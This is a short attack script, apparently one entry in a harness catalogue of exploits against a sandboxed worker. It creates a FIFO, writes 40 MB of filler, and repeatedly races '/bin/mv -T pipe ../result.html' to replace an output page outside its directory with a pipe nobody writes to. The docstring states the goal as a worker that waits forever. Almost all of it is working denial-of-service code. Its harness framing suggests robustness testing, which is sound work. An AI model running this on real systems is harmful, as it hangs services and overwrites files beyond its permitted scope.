"""Renames a FIFO over the page, which nobody ever writes to.

gains: a worker that waits for ever
needs: chain
limits: timeout_s=6
repeat: 20
ends: any
"""

os.mkfifo("pipe")
forge(b"x" * 40_000_000)
chain(60 + 20 * ROUND, "/bin/mv", "-T", "pipe", "../result.html")
tell(b"done")
time.sleep(0.3)
